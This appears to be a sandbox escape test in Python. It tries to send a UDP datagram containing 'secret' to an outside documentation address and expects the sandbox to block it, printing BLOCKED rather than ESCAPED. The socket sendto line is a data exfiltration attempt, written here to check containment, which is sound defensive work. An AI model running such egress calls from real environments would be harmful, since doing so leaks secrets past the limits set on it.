# attack: sends a datagram outside
# expect: outcome=ok
# expect-stdout: BLOCKED
# forbid-stdout: ESCAPED
# expect-denial: socket(AF_INET, SOCK_DGRAM
import socket

from attack import finish

try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("192.0.2.1", 53))
except PermissionError as error:
    finish("BLOCKED", str(error))
finish("ESCAPED")
